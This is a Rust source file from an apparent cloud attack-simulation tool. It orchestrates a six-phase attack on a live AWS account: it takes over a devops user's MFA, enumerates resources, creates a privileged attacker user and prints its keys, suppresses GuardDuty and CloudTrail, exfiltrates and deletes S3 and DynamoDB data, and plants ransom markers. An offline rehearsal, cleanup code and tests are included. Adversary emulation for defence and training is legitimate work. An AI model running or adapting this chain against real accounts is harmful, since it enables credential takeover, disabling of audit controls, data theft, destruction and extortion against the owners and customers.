use std::time::Duration;

use serde_json::json;
use tracing::warn;

use crate::cleanup::Cleaner;
use crate::config::ScenarioConfig;
use crate::drain::memory::{MemoryBuckets, MemoryTables};
use crate::drain::object_store::BucketStore;
use crate::drain::table_store::TableStore;
use crate::drain::{DrainReport, DrainRun, DrainStore, Locator};
use crate::enumerate::Enumerator;
use crate::error::{classify, AttackError, AttackResult};
use crate::escalate::Escalator;
use crate::loot::LootWriter;
use crate::mfa::MfaSetup;
use crate::outputs::{user_from_arn, InfraOutputs};
use crate::session::CloudSession;
use crate::suppress::{SuppressionReport, Suppressor};

const BANNER_WIDTH: usize = 70;

/// Drives the full scenario: one struct per configured run, one public
/// method per CLI command. Narration goes to stdout, diagnostics to tracing.
pub struct Scenario {
    cfg: ScenarioConfig,
}

impl Scenario {
    pub fn new(cfg: ScenarioConfig) -> Self {
        Self { cfg }
    }

    pub fn config(&self) -> &ScenarioConfig {
        &self.cfg
    }

    /// Confirm the rollout outputs exist, carry every expected key, and the
    /// named data resources answer API calls.
    pub async fn validate_rollout(&self) -> AttackResult<()> {
        let cfg = &self.cfg;
        InfraOutputs::wait_until_present(&cfg.outputs_file, Duration::from_secs(5)).await?;
        let outputs = InfraOutputs::load(&cfg.outputs_file)?;
        outputs.validate()?;

        let session = CloudSession::from_env(&cfg.region).await?;
        let s3 = aws_sdk_s3::Client::new(session.config());
        let ddb = aws_sdk_dynamodb::Client::new(session.config());

        let mut unreachable = Vec::new();

        let mut buckets = Vec::new();
        for key in ["config_files_bucket", "customer_data_bucket", "payment_data_bucket"] {
            if let Some(name) = outputs.get_str_opt(key) {
                buckets.push(name.to_string());
            }
        }
        buckets.extend(outputs.str_list("regular_buckets"));
        for bucket in &buckets {
            match probe_bucket(&s3, bucket).await {
                Ok(0) => println!("  [!] bucket {bucket}: no data"),
                Ok(n) => println!("  bucket {bucket}: {n} objects"),
                Err(e) => {
                    println!("  [!] bucket {bucket}: unreachable ({e})");
                    unreachable.push(bucket.clone());
                }
            }
        }

        for key in ["CustomerOrdersTable", "CustomerSSNTable"] {
            let Some(table) = outputs.get_str_opt(key) else { continue };
            match probe_table(&ddb, table).await {
                Ok(n) if n > 0 => println!("  table {table}: has records"),
                Ok(_) => println!("  [!] table {table}: no records"),
                Err(e) => {
                    println!("  [!] table {table}: unreachable ({e})");
                    unreachable.push(table.to_string());
                }
            }
        }

        if unreachable.is_empty() {
            println!("rollout looks healthy");
            Ok(())
        } else {
            Err(AttackError::Config(format!(
                "unreachable resources: {}",
                unreachable.join(", ")
            )))
        }
    }

    /// Pretty-print the raw rollout outputs.
    pub async fn show_resources(&self) -> AttackResult<()> {
        let outputs = InfraOutputs::load(&self.cfg.outputs_file)?;
        println!("{}", serde_json::to_string_pretty(outputs.raw())?);
        Ok(())
    }

    /// The full attack chain against the live account.
    pub async fn launch_attack(&self) -> AttackResult<()> {
        let cfg = &self.cfg;
        let outputs = InfraOutputs::load(&cfg.outputs_file)?;
        outputs.validate()?;

        let operator = CloudSession::from_env(&cfg.region).await?;
        self.banner(&operator);

        println!("\n[PHASE 1] MFA takeover of the devops user");
        let devops_user = match &cfg.devops_user {
            Some(u) => u.clone(),
            None => user_from_arn(outputs.get_str("devops_user_arn")?).to_string(),
        };
        let devops_ak = outputs.get_str("devops_access_key_id")?;
        let devops_sk = outputs.get_str("devops_secret_access_key")?;
        let mfa = MfaSetup::new(&operator, &devops_user, &cfg.mfa_device_name, cfg.mfa_registration());
        let login = mfa.enroll_and_login(&cfg.region, devops_ak, devops_sk).await?;
        let devops = CloudSession::from_static_keys(
            &cfg.region,
            &login.access_key_id,
            &login.secret_access_key,
            Some(login.session_token.clone()),
            Duration::ZERO,
        )
        .await?;
        println!("  [*] logged in as {} with a fresh MFA device", devops.identity().user_name());

        println!("\n[PHASE 2] enumerating account resources");
        let mut recon_loot = LootWriter::new(&cfg.enumeration_dir)?;
        let recon = Enumerator::new(&devops).sweep(&mut recon_loot).await?;
        println!(
            "  [*] {} dump files written to {}",
            recon.files.len(),
            recon_loot.dir().display()
        );

        println!("\n[PHASE 3] creating the attacker user");
        let attacker = Escalator::new(&devops)
            .create_privileged_user(&cfg.attack_user_prefix)
            .await?;
        println!("  [CREDENTIALS] {} access key: {}", attacker.user_name, attacker.access_key_id);
        println!("  [CREDENTIALS] {} secret key: {}", attacker.user_name, attacker.secret_access_key);
        let escalated = CloudSession::from_static_keys(
            &cfg.region,
            &attacker.access_key_id,
            &attacker.secret_access_key,
            None,
            cfg.iam_propagation(),
        )
        .await?;

        println!("\n[PHASE 4] suppressing GuardDuty and CloudTrail");
        let suppression = Suppressor::new(&escalated)
            .run(
                outputs.get_str_opt("gd_detector_id"),
                outputs.get_str_opt("cloudtrail_name"),
            )
            .await;
        println!(
            "  [*] detectors silenced: {}, trails silenced: {}, failed ops: {}",
            suppression.detectors_silenced,
            suppression.trails_silenced,
            suppression.failures.len()
        );
        self.pace("security controls handled", cfg.pacing_long()).await;

        println!("\n[PHASE 5] S3 drain, delete and ransom");
        let run = DrainRun::new(
            BucketStore::new(escalated.config(), &cfg.bucket_ransom_object),
            self.locator(&cfg.bucket_prefixes, &outputs),
            LootWriter::new(&cfg.bucket_loot_dir)?,
        )
        .force_delete(cfg.force_delete);
        let s3_report = self.drive_drain(run, &cfg.bucket_ransom_message).await?;
        self.pace("S3 phase complete", cfg.pacing_long()).await;

        println!("\n[PHASE 6] DynamoDB drain, delete and ransom");
        let run = DrainRun::new(
            TableStore::new(
                escalated.config(),
                &cfg.ransom_table,
                cfg.poll_interval(),
                cfg.poll_timeout(),
            ),
            self.locator(&cfg.table_prefixes, &outputs),
            LootWriter::new(&cfg.table_loot_dir)?,
        )
        .force_delete(cfg.force_delete);
        let ddb_report = self.drive_drain(run, &cfg.table_ransom_message).await?;

        self.print_summary(&s3_report, &ddb_report, Some(&suppression));
        Ok(())
    }

    /// Rehearsal of the two drain phases against in-memory stores. No AWS
    /// account, no credentials, same state machine and artifacts.
    pub async fn launch_offline(&self) -> AttackResult<()> {
        let cfg = &self.cfg;
        println!("{}", "=".repeat(BANNER_WIDTH));
        println!("  CLOUD NIGHTMARE ATTACK SIMULATION (offline rehearsal)");
        println!("{}", "=".repeat(BANNER_WIDTH));

        println!("\n[PHASE 5] S3 drain, delete and ransom");
        let buckets = MemoryBuckets::new(&cfg.bucket_ransom_object)
            .with_object("customer-data-demo", "2024/q1/users.csv", b"alice,bob")
            .with_object("customer-data-demo", "2024/q1/cards.csv", b"4111-1111-1111-1111")
            .with_bucket("payment-data-demo");
        let run = DrainRun::new(
            buckets,
            Locator::new(cfg.bucket_prefixes.clone(), cfg.case_insensitive),
            LootWriter::new(&cfg.bucket_loot_dir)?,
        );
        let s3_report = self.drive_drain(run, &cfg.bucket_ransom_message).await?;

        println!("\n[PHASE 6] DynamoDB drain, delete and ransom");
        let tables = MemoryTables::new(&cfg.ransom_table)
            .with_table(
                "CustomerOrdersTable-demo",
                vec![
                    json!({"ID": "1001", "CustomerName": "Alice", "Amount": 31.5}),
                    json!({"ID": "1002", "CustomerName": "Bob", "Amount": 12.0}),
                ],
            )
            .with_table(
                "CustomerSSNTable-demo",
                vec![json!({"ID": "2001", "SSN": "078-05-1120"})],
            );
        let run = DrainRun::new(
            tables,
            Locator::new(cfg.table_prefixes.clone(), cfg.case_insensitive),
            LootWriter::new(&cfg.table_loot_dir)?,
        );
        let ddb_report = self.drive_drain(run, &cfg.table_ransom_message).await?;

        self.print_summary(&s3_report, &ddb_report, None);
        Ok(())
    }

    /// Undo the account changes and remove local artifacts.
    pub async fn clean_up(&self) -> AttackResult<()> {
        let cfg = &self.cfg;
        println!("{}", "=".repeat(BANNER_WIDTH));
        println!("  CLEANUP");
        println!("{}", "=".repeat(BANNER_WIDTH));

        let devops = match &cfg.devops_user {
            Some(u) => Some(u.clone()),
            None => match InfraOutputs::load(&cfg.outputs_file) {
                Ok(outputs) => outputs
                    .get_str_opt("devops_user_arn")
                    .map(|arn| user_from_arn(arn).to_string()),
                Err(e) => {
                    warn!(error = %e, "outputs unavailable, devops user will not be cleaned");
                    None
                }
            },
        };

        let session = CloudSession::from_env(&cfg.region).await?;
        let report = Cleaner::new(&session).run(cfg, devops.as_deref()).await;

        println!("  users deleted: {}", report.users_deleted.join(", "));
        println!("  mfa devices purged: {}", report.devices_purged);
        for dir in &report.dirs_removed {
            println!("  removed {}", dir.display());
        }
        if report.is_clean() {
            println!("cleanup complete");
        } else {
            for f in &report.failures {
                println!("  [!] incomplete: {f}");
            }
        }
        Ok(())
    }

    // locate -> exfiltrate -> destroy -> annotate, with the narrative pauses
    // between the destructive steps.
    async fn drive_drain<S: DrainStore>(
        &self,
        mut run: DrainRun<S>,
        message: &str,
    ) -> AttackResult<DrainReport> {
        let kind = run.report().kind.clone();
        let found = run.locate().await?;
        println!("  [*] {kind} targets located: {found}");
        let artifacts = run.exfiltrate().await?;
        println!("  [*] exfiltration complete: {artifacts} artifacts");
        self.pace("exfiltration complete", self.cfg.pacing_short()).await;
        let destroyed = run.destroy().await?;
        println!("  [*] destruction complete: {destroyed} deletions");
        self.pace("destruction complete", self.cfg.pacing_short()).await;
        let placed = run.annotate(message).await?;
        println!("  [*] ransom markers placed: {placed}");
        Ok(run.into_report())
    }

    fn locator(&self, prefixes: &[String], outputs: &InfraOutputs) -> Locator {
        let locator = Locator::new(prefixes.to_vec(), self.cfg.case_insensitive);
        if self.cfg.restrict_to_rollout {
            locator.with_allow_list(outputs.rollout_resource_names())
        } else {
            locator
        }
    }

    async fn pace(&self, what: &str, pause: Duration) {
        if pause.is_zero() {
            return;
        }
        println!("      ... {what}, waiting {}s", pause.as_secs());
        tokio::time::sleep(pause).await;
    }

    fn banner(&self, operator: &CloudSession) {
        let id = operator.identity();
        println!("{}", "=".repeat(BANNER_WIDTH));
        println!("  CLOUD NIGHTMARE ATTACK SIMULATION");
        println!("  account: {}   operator: {}", id.account, id.user_name());
        println!("{}", "=".repeat(BANNER_WIDTH));
        println!("  phase 1  MFA takeover of the devops user");
        println!("  phase 2  resource enumeration");
        println!("  phase 3  privilege escalation");
        println!("  phase 4  audit suppression (GuardDuty / CloudTrail)");
        println!("  phase 5  S3 drain, delete and ransom");
        println!("  phase 6  DynamoDB drain, delete and ransom");
        println!("{}", "=".repeat(BANNER_WIDTH));
    }

    fn print_summary(
        &self,
        s3: &DrainReport,
        tables: &DrainReport,
        suppression: Option<&SuppressionReport>,
    ) {
        println!();
        println!("{}", "=".repeat(BANNER_WIDTH));
        println!("  ATTACK RUN COMPLETE");
        println!("{}", "=".repeat(BANNER_WIDTH));
        for report in [s3, tables] {
            println!(
                "  {}: {} targets, {} items taken, {} artifacts, {} destroyed, {} markers",
                report.kind,
                report.targets.len(),
                report.exfiltrated_items,
                report.artifacts,
                report.destroyed,
                report.annotated
            );
            for target in &report.skipped_unexfiltrated {
                println!("    [!] {target}: delete refused, no exfiltration record");
            }
            for failure in &report.failures {
                println!(
                    "    [!] {} during {}: {}",
                    failure.target, failure.phase, failure.detail
                );
            }
        }
        if let Some(s) = suppression {
            if !s.is_clean() {
                println!("  suppression left incomplete: {}", s.failures.join(", "));
            }
        }
        println!(
            "  artifacts under {} | {} | {}",
            self.cfg.enumeration_dir.display(),
            self.cfg.bucket_loot_dir.display(),
            self.cfg.table_loot_dir.display()
        );
    }
}

async fn probe_bucket(s3: &aws_sdk_s3::Client, bucket: &str) -> AttackResult<usize> {
    let resp = s3
        .list_objects_v2()
        .bucket(bucket)
        .send()
        .await
        .map_err(|e| classify("list objects", e))?;
    Ok(resp.key_count().unwrap_or(0) as usize)
}

async fn probe_table(ddb: &aws_sdk_dynamodb::Client, table: &str) -> AttackResult<usize> {
    let resp = ddb
        .scan()
        .table_name(table)
        .limit(1)
        .send()
        .await
        .map_err(|e| classify("scan table", e))?;
    Ok(resp.count() as usize)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn offline_config(root: &std::path::Path) -> ScenarioConfig {
        let mut cfg = ScenarioConfig::default();
        cfg.skip_pacing();
        cfg.bucket_loot_dir = root.join("s3");
        cfg.table_loot_dir = root.join("ddb");
        cfg.enumeration_dir = root.join("enum");
        cfg
    }

    #[tokio::test]
    async fn offline_rehearsal_completes_and_writes_artifacts() {
        let dir = tempfile::tempdir().unwrap();
        let scenario = Scenario::new(offline_config(dir.path()));
        scenario.launch_offline().await.unwrap();

        assert!(dir
            .path()
            .join("s3")
            .join("customer-data-demo_2024_q1_users.csv")
            .exists());
        assert!(dir
            .path()
            .join("s3")
            .join("customer-data-demo_2024_q1_cards.csv")
            .exists());
        assert!(dir.path().join("ddb").join("CustomerOrdersTable-demo.json").exists());
        assert!(dir.path().join("ddb").join("CustomerSSNTable-demo.json").exists());
    }

    #[tokio::test]
    async fn offline_rehearsal_row_dump_is_structurally_faithful() {
        let dir = tempfile::tempdir().unwrap();
        let scenario = Scenario::new(offline_config(dir.path()));
        scenario.launch_offline().await.unwrap();

        let raw = std::fs::read_to_string(
            dir.path().join("ddb").join("CustomerOrdersTable-demo.json"),
        )
        .unwrap();
        let rows: serde_json::Value = serde_json::from_str(&raw).unwrap();
        assert_eq!(rows.as_array().unwrap().len(), 2);
        assert_eq!(rows[0]["ID"], "1001");
    }
}
